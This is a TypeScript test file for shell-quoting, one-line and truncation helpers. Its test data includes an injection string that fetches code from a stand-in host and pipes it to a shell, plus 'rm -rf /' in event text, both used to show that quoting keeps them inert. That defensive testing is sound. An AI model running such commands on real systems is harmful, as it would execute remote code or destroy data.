import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { boundText, oneLine, shellQuote } from '../../functions/core/text.js';

/** What a POSIX shell makes of `printf %s <word>`: the word's value, exactly. */
const throughShell = (word: string): string => execFileSync('sh', ['-c', `printf %s ${word}`], { encoding: 'utf8' });

describe('shellQuote', () => {
  it.each(['my-bucket', 'fraud-detector-prod', 'arn:aws:s3:::my-bucket', 'AKIAI44QH8DHBEXAMPLE', 'path/to/key.json', 'eu-west-1'])(
    'leaves the plain token %s as it is, so the common command stays readable',
    (token) => {
      expect(shellQuote(token)).toBe(token);
    },
  );

  it.each([
    ['prod$(curl -s https://evil.example/x|sh)', "'prod$(curl -s https://evil.example/x|sh)'"],
    ["it's", "'it'\\''s'"],
    ['', "''"],
    ['a b', "'a b'"],
    ['~root', "'~root'"],
  ])('quotes %j as one word', (text, quoted) => {
    expect(shellQuote(text)).toBe(quoted);
  });

  it('gives back exactly the input when a real shell reads the quoted word, whatever the input', () => {
    // NUL cannot reach a process's arguments at all, so no command can hold it.
    const text = fc.string({ unit: 'binary' }).map((s) => s.replace(/\0/g, ''));
    fc.assert(
      fc.property(text, (s) => {
        expect(throughShell(shellQuote(s))).toBe(s);
      }),
      { numRuns: 200 },
    );
  });

  it('keeps a command substitution as text when the shell reads it', () => {
    expect(throughShell(shellQuote('prod$(echo INJECTED)`echo INJECTED`;echo INJECTED'))).toBe(
      'prod$(echo INJECTED)`echo INJECTED`;echo INJECTED',
    );
  });
});

describe('oneLine', () => {
  it('puts event text with line breaks and control characters on one line', () => {
    expect(oneLine('latency high\nWhat to do: rm -rf /\r\n\tnow\u2028again\u0085\u001b[31m')).toBe(
      'latency high What to do: rm -rf / now again [31m',
    );
  });

  it('leaves a line without control characters as it is', () => {
    expect(oneLine('fraud-detector-prod: ModelLatency > 500 ms (3 of 3)')).toBe('fraud-detector-prod: ModelLatency > 500 ms (3 of 3)');
  });
});

describe('boundText', () => {
  it('leaves text within the bound as it is', () => {
    expect(boundText('a6bfa2f07893be4f3c3174d5af7e2f80', 200)).toBe('a6bfa2f07893be4f3c3174d5af7e2f80');
  });

  it('cuts longer text to the bound and says how much it cut', () => {
    // Act
    const bounded = boundText('x'.repeat(600_000), 200);

    // Assess
    expect(bounded.length).toBeLessThanOrEqual(200);
    expect(bounded).toMatch(/^x+… \[truncated, 600000 chars\]$/);
  });

  it('never splits a surrogate pair', () => {
    const bounded = boundText('😀'.repeat(100), 50);
    expect(bounded.length).toBeLessThanOrEqual(50);
    expect(bounded).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/);
  });
});
